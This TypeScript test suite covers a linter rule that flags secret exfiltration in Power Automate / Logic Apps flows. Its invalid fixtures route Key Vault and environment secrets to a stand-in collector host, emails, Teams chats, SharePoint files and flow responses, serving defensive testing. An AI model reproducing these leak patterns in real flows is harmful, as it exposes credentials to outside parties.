import { fg121 } from '../../src/rules/fg121-secret-exfiltration.js';
import {
  flowFile,
  foreach,
  getSecret,
  http,
  scope,
  secretValueExpr,
  SHAPES,
} from '../helpers/flow-builders.js';
import { ruleTester, type InvalidCase, type RuleCase } from '../helpers/rule-tester.js';
import {
  compose,
  connector,
  envVarSecret,
  ifElse,
  initVar,
  secureInputs,
  setVar,
  switchOf,
  until,
} from './secret-fixtures.js';
import { CHILD_FILE, childFlow, MIDDLE_FILE, MIDDLE_ID, relayFlow, runChild } from './child-flow-fixtures.js';

type Shape = (typeof SHAPES)[number];
const S = { secureOutputs: true };
const secret = (shape: Shape) => `@${secretValueExpr(shape, 'Get_secret')}`;
const withSecret = (shape: Shape, actions: Record<string, unknown>) =>
  flowFile({ Get_secret: getSecret(shape, 'api-key', S), ...actions });

const valid: RuleCase[] = SHAPES.flatMap((shape) => [
  {
    name: `${shape}: secret only in credential slots`,
    flow: withSecret(shape, {
      Call: http({
        uri: 'https://api.example.com/items',
        headers: {
          Authorization: `Bearer @{${secretValueExpr(shape, 'Get_secret')}}`,
          'Ocp-Apim-Subscription-Key': secret(shape),
        },
        authentication: {
          type: 'ActiveDirectoryOAuth',
          tenant: 't',
          audience: 'a',
          clientId: 'c',
          secret: secret(shape),
        },
        body: { query: 'status' },
      }),
    }),
  },
  {
    name: `${shape}: client secret sent to the Microsoft identity platform token endpoint`,
    flow: withSecret(shape, {
      Init: initVar('secret', secret(shape)),
      Token: http({
        uri: "https://login.microsoftonline.com/@{parameters('tenant')}/oauth2/v2.0/token",
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: "grant_type=client_credentials&client_id=abc&client_secret=@{encodeUriComponent(variables('secret'))}",
      }),
    }),
  },
  {
    name: `${shape}: secret sent to a configured allowed host`,
    options: { allowedHosts: ['vault-proxy.contoso.com'] },
    flow: withSecret(shape, {
      Call: http({ uri: 'https://vault-proxy.contoso.com/rotate', body: { value: secret(shape) } }),
    }),
  },
  {
    name: `${shape}: the response of an authenticated call is mailed (not secret)`,
    flow: withSecret(shape, {
      Call: http({
        uri: 'https://api.example.com',
        method: 'GET',
        headers: { Authorization: secret(shape) },
      }),
      Mail: connector('office365', 'SendEmailV2', {
        'emailMessage/To': 'a@contoso.com',
        'emailMessage/Body': "@{body('Call')}",
      }),
    }),
  },
  {
    name: `${shape}: secret kept inside the flow (variables, Compose, a read operation)`,
    flow: withSecret(shape, {
      Init: initVar('s', secret(shape)),
      Hold: compose("@variables('s')", secureInputs),
      Read: connector('office365', 'GetEmailsV3', { folderPath: "@{outputs('Hold')}" }),
    }),
  },
]);

/** A raw-request connector operation (src/model/raw-requests.ts) with parameters as the designer writes them. */
const raw = (api: string, params: Record<string, unknown>, operationId = 'HttpRequest') =>
  connector(api, operationId, params);
const entra = (api: string, params: Record<string, unknown>) => raw(api, params, 'InvokeHttp');
/** The legacy (ApiConnection) form of HTTP with Microsoft Entra ID: the request object in `inputs.body`. */
const entraLegacy = (request: Record<string, unknown>) => ({
  type: 'ApiConnection',
  inputs: {
    host: { connection: { name: "@parameters('$connections')['webcontents']['connectionId']" } },
    method: 'post',
    path: '/codeless/InvokeHttp',
    body: request,
  },
  runAfter: {},
});
const env = { Get_env: envVarSecret('fg_ApiKey') };
const envValue = "@{body('Get_env')?['EnvironmentVariableValue']}";

valid.push(
  ...['webcontents', 'webcontentsv2'].map((api) => ({
    name: `${api}: secret only in credential headers of request/headers`,
    flow: flowFile({
      ...env,
      Call: entra(api, {
        'request/method': 'GET',
        'request/url': 'https://graph.microsoft.com/v1.0/me',
        'request/headers': { Authorization: `Bearer ${envValue}`, 'x-api-key': envValue },
      }),
    }),
  })),
  {
    name: 'raw requests: credential headers of SharePoint, a flattened header, an Outlook CustomHeader, legacy Entra',
    flow: flowFile({
      ...env,
      Init: initVar('k', envValue),
      Sp: raw('sharepointonline', {
        dataset: 'https://contoso.sharepoint.com/sites/hr',
        'parameters/method': 'GET',
        'parameters/uri': '_api/web',
        'parameters/headers': { 'Ocp-Apim-Subscription-Key': "@variables('k')" },
      }),
      Flat: entra('webcontents', {
        'request/url': 'https://api.contoso.com',
        'request/headers/x-functions-key': envValue,
      }),
      Mail: raw('office365', {
        Uri: 'https://graph.microsoft.com/v1.0/me/sendMail',
        Method: 'POST',
        CustomHeader1: "Authorization: Bearer @{variables('k')}",
      }),
      Legacy: entraLegacy({
        method: 'GET',
        url: 'https://api.contoso.com',
        headers: { Authorization: envValue },
      }),
    }),
  },
  {
    name: 'Entra HTTP to an allowed host',
    options: { allowedHosts: ['*.contoso.com'] },
    flow: flowFile({
      ...env,
      Call: entra('webcontents', { 'request/url': 'https://vault.contoso.com/in', 'request/body': envValue }),
    }),
  },
  {
    name: 'Dataverse unbound action given only its action name and non-secret data',
    flow: flowFile({
      ...env,
      Act: connector('commondataserviceforapps', 'PerformUnboundAction', {
        actionName: 'cr_Notify',
        'item/Message': "@triggerBody()?['text']",
      }),
    }),
  },
);

const invalid: InvalidCase[] = SHAPES.flatMap((shape): InvalidCase[] => [
  {
    name: `${shape}: secret read directly into an HTTP body`,
    flow: withSecret(shape, {
      Send: http({ uri: 'https://collector.example.net/in', body: { leaked: secret(shape) } }),
    }),
    findings: [
      {
        action: 'Send',
        severity: 'critical',
        message: ['"Send" (HTTP POST)', 'from "Get_secret" (Azure Key Vault ', 'in body (http-body)'],
      },
    ],
  },
  {
    name: `${shape}: secret through a variable into a non-credential header and the URI`,
    flow: withSecret(shape, {
      Init: initVar('token', secret(shape)),
      Send: http({
        uri: "https://api.example.com/hook?code=@{variables('token')}",
        headers: { 'X-Secret': "@variables('token')" },
      }),
    }),
    findings: [
      { action: 'Send', severity: 'critical', message: ['headers.X-Secret (http-header)'] },
      { action: 'Send', severity: 'critical', message: ['in uri (http-uri)'] },
    ],
  },
  {
    name: `${shape}: secret through Compose mailed from a Switch case, posted to Teams in an If branch`,
    flow: withSecret(shape, {
      Hold: compose({ key: secret(shape) }),
      Pick: switchOf("@triggerBody()?['k']", {
        A: {
          Mail: connector('office365', 'SendEmailV2', { 'emailMessage/Body': "<p>@{outputs('Hold')}</p>" }),
        },
      }),
      Check: ifElse(true, {
        Chat: connector('teams', 'PostMessageToConversation', {
          'body/messageBody': "@{outputs('Hold')?['key']}",
        }),
      }),
      // "Post a message with options and wait": the message goes to the chat before the flow waits.
      Ask: connector('teams', 'SubscribeMessageWithOptions', {
        'body/body/messageBody': "@{outputs('Hold')?['key']}",
      }),
    }),
    findings: [
      {
        action: 'Ask',
        severity: 'critical',
        message: ['(Microsoft Teams SubscribeMessageWithOptions)', '(chat)'],
      },
      { action: 'Mail', severity: 'critical', message: ['(Office 365 Outlook SendEmailV2)', '(mail)'] },
      {
        action: 'Chat',
        severity: 'critical',
        message: ['(Microsoft Teams PostMessageToConversation)', '(chat)'],
      },
    ],
  },
  {
    name: `${shape}: secret written to SharePoint and Dataverse inside Scope, Foreach and Until`,
    flow: withSecret(shape, {
      Init: initVar('s', secret(shape)),
      Try: scope({
        Loop: foreach("@triggerBody()?['sites']", {
          File: connector('sharepointonline', 'CreateFile', {
            dataset: "@items('Loop')",
            body: "@variables('s')",
          }),
        }),
        Wait: until('@true', {
          Row: connector('commondataserviceforapps', 'CreateRecord', { 'item/cr_note': "@variables('s')" }),
        }),
      }),
    }),
    findings: [
      { action: 'File', severity: 'critical', message: ['(file)'] },
      { action: 'Row', severity: 'critical', message: ['(row)'] },
    ],
  },
  {
    name: `${shape}: a token endpoint on a host that is not an identity provider`,
    flow: withSecret(shape, {
      Send: http({
        uri: 'https://login.example.net/oauth2/v2.0/token',
        body: `client_secret=@{${secretValueExpr(shape, 'Get_secret')}}`,
      }),
    }),
    findings: [{ action: 'Send', severity: 'critical' }],
  },
]);

invalid.push(
  {
    name: 'secret returned by Response, Terminate, a child flow and the workflow outputs',
    flow: flowFile(
      {
        Get_env: envVarSecret('fg_ApiKey'),
        Reply: {
          type: 'Response',
          kind: 'Http',
          inputs: { statusCode: 200, body: "@body('Get_env')" },
          runAfter: {},
        },
        Child: {
          type: 'Workflow',
          inputs: { host: { workflowReferenceName: 'abc' }, body: { k: "@body('Get_env')" } },
          runAfter: {},
        },
        Stop: {
          type: 'Terminate',
          inputs: { runStatus: 'Failed', runError: { message: "@{body('Get_env')}" } },
          runAfter: {},
        },
      },
      undefined,
      { outputs: { leaked: { type: 'String', value: "@body('Get_env')?['EnvironmentVariableValue']" } } },
    ),
    findings: [
      { action: 'Reply', severity: 'critical', message: ['(response)'] },
      { action: 'Child', severity: 'critical', message: ['(child-flow)'] },
      { action: 'Stop', severity: 'critical', message: ['(terminate)'] },
      { action: null, severity: 'critical', message: ['The workflow output outputs.leaked'] },
    ],
  },
  {
    name: 'ApiConnection Office 365 send mail with a secret through a loop item',
    flow: flowFile({
      Get_secret: getSecret('ApiConnection', 'api-key', S),
      Loop: foreach("@createArray(body('Get_secret')?['value'])", {
        Mail: {
          type: 'ApiConnection',
          inputs: {
            host: { connection: { name: "@parameters('$connections')['office365']['connectionId']" } },
            method: 'post',
            path: '/v2/Mail',
            body: { To: 'ops@contoso.com', Body: "@{items('Loop')}" },
          },
          runAfter: {},
        },
      }),
    }),
    findings: [{ action: 'Mail', severity: 'critical', message: ['(mail)'] }],
  },
);

invalid.push(
  ...['webcontents', 'webcontentsv2'].map((api): InvalidCase => ({
    name: `${api}: secret in request/url, request/body and a non-credential header`,
    flow: flowFile({
      ...env,
      Call: entra(api, {
        'request/method': 'POST',
        'request/url': `https://collector.example.net/in?k=${envValue}`,
        'request/headers': { 'Content-Type': 'application/json', 'X-Data': envValue },
        'request/body': { leaked: envValue },
      }),
    }),
    findings: [
      { action: 'Call', severity: 'critical', message: ['parameters.request/body (http-body)'] },
      { action: 'Call', severity: 'critical', message: ['parameters.request/headers (http-header)'] },
      { action: 'Call', severity: 'critical', message: ['parameters.request/url (http-uri)'] },
    ],
  })),
  {
    name: 'Graph sendMail and chat messages through raw requests are mail and chat sinks',
    flow: flowFile({
      ...env,
      Init: initVar('k', envValue),
      Outlook: raw('office365', {
        Uri: 'https://graph.microsoft.com/v1.0/me/sendMail',
        Method: 'POST',
        Body: '{ "message": { "body": { "content": "@{variables(\'k\')}" } } }',
        ContentType: 'application/json',
      }),
      Entra: entra('webcontents', {
        'request/method': 'POST',
        'request/url': "@{variables('GraphURL')}v1.0/users/ops@contoso.com/sendMail",
        'request/body': { message: { body: { content: "@variables('k')" } } },
      }),
      Teams: raw('teams', {
        Uri: 'https://graph.microsoft.com/v1.0/chats/19:abc/messages',
        Method: 'POST',
        Body: "@{variables('k')}",
      }),
      Users: raw('office365users', {
        Uri: "https://graph.microsoft.com/v1.0/me/messages/@{variables('k')}",
        Method: 'GET',
      }),
    }),
    findings: [
      { action: 'Entra', severity: 'critical', message: ['(mail)'] },
      { action: 'Outlook', severity: 'critical', message: ['parameters.Body (mail)'] },
      { action: 'Teams', severity: 'critical', message: ['(chat)'] },
      { action: 'Users', severity: 'critical', message: ['parameters.Uri (http-uri)'] },
    ],
  },
  {
    name: 'SharePoint HttpRequest, a CustomHeader that is no credential, legacy Entra body and a Dataverse unbound action',
    flow: flowFile({
      ...env,
      Sp: raw('sharepointonline', {
        dataset: 'https://contoso.sharepoint.com/sites/hr',
        'parameters/method': 'POST',
        'parameters/uri': "_api/web/lists/getbytitle('Log')/items",
        'parameters/body': `{ "Title": "${envValue}" }`,
      }),
      Groups: raw('office365groups', {
        Uri: 'https://graph.microsoft.com/v1.0/groups',
        Method: 'GET',
        CustomHeader1: `X-Trace: ${envValue}`,
      }),
      Legacy: entraLegacy({
        request: { method: 'POST', url: 'https://collector.example.net', body: envValue },
      }),
      Act: connector('commondataserviceforapps', 'PerformUnboundAction', {
        actionName: 'cr_CallPartner',
        'item/Payload': envValue,
      }),
    }),
    findings: [
      { action: 'Act', severity: 'critical', message: ['parameters.item/Payload (connector)'] },
      { action: 'Groups', severity: 'critical', message: ['parameters.CustomHeader1 (http-header)'] },
      { action: 'Legacy', severity: 'critical', message: ['in body (http-body)'] },
      { action: 'Sp', severity: 'critical', message: ['parameters.parameters/body (http-body)'] },
    ],
  },
);

invalid.push({
  name: 'SPEC §3 FG121 endpoints: Response headers, a Power Apps response, approval details, a child flow by name',
  flow: flowFile({
    ...env,
    Init: initVar('k', envValue),
    Reply: {
      type: 'Response',
      kind: 'Http',
      inputs: { statusCode: 200, headers: { 'X-Debug': "@variables('k')" }, body: 'ok' },
      runAfter: {},
    },
    ToApp: {
      type: 'Response',
      kind: 'PowerApp',
      inputs: { statusCode: 200, body: { token: "@variables('k')" } },
      runAfter: {},
    },
    Approve: connector('approvals', 'StartAndWaitForAnApproval', {
      approvalType: 'Basic',
      'WebhookApprovalCreationInput/title': 'Rotate',
      'WebhookApprovalCreationInput/details': "Key: @{variables('k')}",
    }),
    Child: {
      type: 'Workflow',
      inputs: {
        host: { workflowReferenceName: '5f3c4b1e-0000-4000-8000-000000000001' },
        body: { text_1: "@variables('k')" },
      },
      runAfter: {},
    },
  }),
  findings: [
    { action: 'Approve', severity: 'critical', message: ['WebhookApprovalCreationInput/details (mail)'] },
    { action: 'Child', severity: 'critical', message: ['(child-flow)'] },
    { action: 'Reply', severity: 'critical', message: ['headers.X-Debug (response)'] },
    { action: 'ToApp', severity: 'critical', message: ['(response)'] },
  ],
});

/** An Azure Functions action (`Function`) calling a function app of the tenant. */
const fnCall = (inputs: Record<string, unknown>) => ({
  type: 'Function',
  inputs: {
    function: { id: '/subscriptions/s/resourceGroups/r/providers/Microsoft.Web/sites/app/functions/Rotate' },
    method: 'POST',
    ...inputs,
  },
  runAfter: {},
});
/** An API Management action (`ApiManagement`). */
const apimCall = (inputs: Record<string, unknown>) => ({
  type: 'ApiManagement',
  inputs: {
    api: { id: '/subscriptions/s/resourceGroups/r/providers/Microsoft.ApiManagement/service/gw/apis/orders' },
    method: 'POST',
    ...inputs,
  },
  runAfter: {},
});

for (const shape of SHAPES) {
  valid.push({
    name: `${shape}: Function and ApiManagement actions with the secret only in credential slots`,
    flow: withSecret(shape, {
      Fn: fnCall({ headers: { 'x-functions-key': secret(shape) }, body: { id: 1 } }),
      Api: apimCall({
        headers: { 'Ocp-Apim-Subscription-Key': secret(shape) },
        subscriptionKey: secret(shape),
        authentication: { type: 'Raw', value: secret(shape) },
        body: { id: 1 },
      }),
    }),
  });
  invalid.push(
    {
      name: `${shape}: secret in an Azure Functions action's body, query and a non-credential header`,
      flow: withSecret(shape, {
        FnBody: fnCall({ body: { key: secret(shape) } }),
        FnQuery: fnCall({ queries: { k: secret(shape) } }),
        FnHeader: fnCall({ headers: { 'X-Debug': secret(shape) } }),
      }),
      findings: [
        { action: 'FnBody', severity: 'critical', message: ['(http-body)'] },
        { action: 'FnHeader', severity: 'critical', message: ['headers.X-Debug (http-header)'] },
        { action: 'FnQuery', severity: 'critical', message: ['queries.k (http-query)'] },
      ],
    },
    {
      name: `${shape}: secret in an API Management action's body, query, header and path parameters`,
      flow: withSecret(shape, {
        ApiBody: apimCall({ body: `{"key":"@{${secretValueExpr(shape, 'Get_secret')}}"}` }),
        ApiQuery: apimCall({ queries: { k: secret(shape) } }),
        ApiHeader: apimCall({ headers: { 'X-Trace': secret(shape) } }),
        ApiPath: apimCall({ pathTemplate: { template: '/keys/{k}', parameters: { k: secret(shape) } } }),
      }),
      findings: [
        { action: 'ApiBody', severity: 'critical', message: ['(http-body)'] },
        { action: 'ApiHeader', severity: 'critical', message: ['headers.X-Trace (http-header)'] },
        { action: 'ApiPath', severity: 'critical', message: ['(http-uri)'] },
        { action: 'ApiQuery', severity: 'critical', message: ['queries.k (http-query)'] },
      ],
    },
  );
}

/** `runAfter` on the named siblings. */
const after = (...names: string[]) => ({
  runAfter: Object.fromEntries(names.map((n) => [n, ['Succeeded']])),
});
const postVar = (runAfter: Record<string, unknown>) => ({
  ...http({ method: 'POST', uri: 'https://api.example.com/audit', body: { k: "@{variables('token')}" } }),
  ...runAfter,
});

// Run order (SPEC §2): a variable write reaches a sink only when it can run before it.
valid.push(
  {
    name: 'run order: the request is sent before the variable is given the secret',
    flow: withSecret('OpenApiConnection', {
      Init: initVar('token', ''),
      Post: postVar(after('Init')),
      Set: setVar('token', secret('OpenApiConnection'), { ...secureInputs, ...after('Post') }),
    }),
  },
  {
    name: 'run order: the secret is set in the else branch, the request sent from the then branch',
    flow: withSecret('ApiConnection', {
      Init: initVar('token', ''),
      Check: {
        ...ifElse(
          "@equals(triggerBody()?['k'], 1)",
          { Post: postVar({}) },
          { Set: setVar('token', secret('ApiConnection'), secureInputs) },
        ),
        ...after('Init'),
      },
    }),
  },
);

invalid.push(
  {
    name: 'run order: the secret is set on a parallel branch of the request',
    flow: withSecret('OpenApiConnection', {
      Init: initVar('token', ''),
      Set: setVar('token', secret('OpenApiConnection'), { ...secureInputs, ...after('Init') }),
      Post: postVar(after('Init')),
    }),
    findings: [{ action: 'Post', severity: 'critical', message: ['in body (http-body)'] }],
  },
  {
    name: 'run order: the request is sent before the write, but both sit in a Foreach',
    flow: withSecret('ServiceProvider', {
      Init: initVar('token', ''),
      Each: {
        ...foreach("@triggerBody()?['rows']", {
          Post: postVar({}),
          Set: setVar('token', secret('ServiceProvider'), { ...secureInputs, ...after('Post') }),
        }),
        ...after('Init'),
      },
    }),
    findings: [{ action: 'Post', severity: 'critical' }],
  },
  {
    name: 'run order: the secret is set in one Switch case and sent after the Switch',
    flow: withSecret('OpenApiConnection', {
      Init: initVar('token', ''),
      Pick: {
        ...switchOf("@triggerBody()?['k']", {
          A: { Set: setVar('token', secret('OpenApiConnection'), secureInputs) },
        }),
        ...after('Init'),
      },
      Post: postVar(after('Pick')),
    }),
    findings: [{ action: 'Post', severity: 'critical' }],
  },
);

// Child flows of the same revision that return a secret (SPEC §2 "Child flows").
const mailAnswer = (from: string) => ({
  ...connector('office365', 'SendEmailV2', {
    'emailMessage/To': 'ops@contoso.com',
    'emailMessage/Body': `<p>@{body('${from}')?['key']}</p>`,
  }),
  runAfter: { [from]: ['Succeeded'] },
});
valid.push(
  {
    name: 'child flow: the child answers without a secret',
    flow: flowFile({ Run_a_Child_Flow: runChild(), Send_an_email: mailAnswer('Run_a_Child_Flow') }),
    others: { [CHILD_FILE]: childFlow(false) },
  },
  {
    name: 'child flow: the call names another flow than the one returning the secret',
    flow: flowFile({
      Run_a_Child_Flow: runChild('11111111-2222-4333-8444-555555555555'),
      Send_an_email: mailAnswer('Run_a_Child_Flow'),
    }),
    others: { [CHILD_FILE]: childFlow(true) },
  },
  {
    name: 'child flow: the answer is only used as a credential',
    flow: flowFile({
      Run_a_Child_Flow: runChild(),
      Call: {
        ...http({
          uri: 'https://api.example.com/items',
          headers: { Authorization: "Bearer @{body('Run_a_Child_Flow')?['key']}" },
        }),
        runAfter: { Run_a_Child_Flow: ['Succeeded'] },
      },
    }),
    others: { [CHILD_FILE]: childFlow(true) },
  },
);
invalid.push(
  {
    name: 'child flow: the caller mails the secret its child returned',
    flow: flowFile({ Run_a_Child_Flow: runChild(), Send_an_email: mailAnswer('Run_a_Child_Flow') }),
    others: { [CHILD_FILE]: childFlow(true) },
    findings: [
      {
        action: 'Send_an_email',
        severity: 'critical',
        message: ['secret data from "Run_a_Child_Flow" (Flows Run a child flow)', '(mail)'],
      },
    ],
  },
  {
    name: 'child flow: through a relay flow that returns what its own child returned',
    flow: flowFile({ Run_relay: runChild(MIDDLE_ID), Send_an_email: mailAnswer('Run_relay') }),
    others: { [MIDDLE_FILE]: relayFlow(), [CHILD_FILE]: childFlow(true) },
    findings: [{ action: 'Send_an_email', severity: 'critical', message: ['from "Run_relay"'] }],
  },
  {
    name: 'child flow: the relay itself returns the secret its child returned (Response sink)',
    flow: relayFlow(),
    others: { [CHILD_FILE]: childFlow(true) },
    findings: [{ action: 'Respond_to_a_PowerApp_or_flow', severity: 'critical', message: ['(response)'] }],
  },
);

ruleTester(fg121, { valid, invalid });
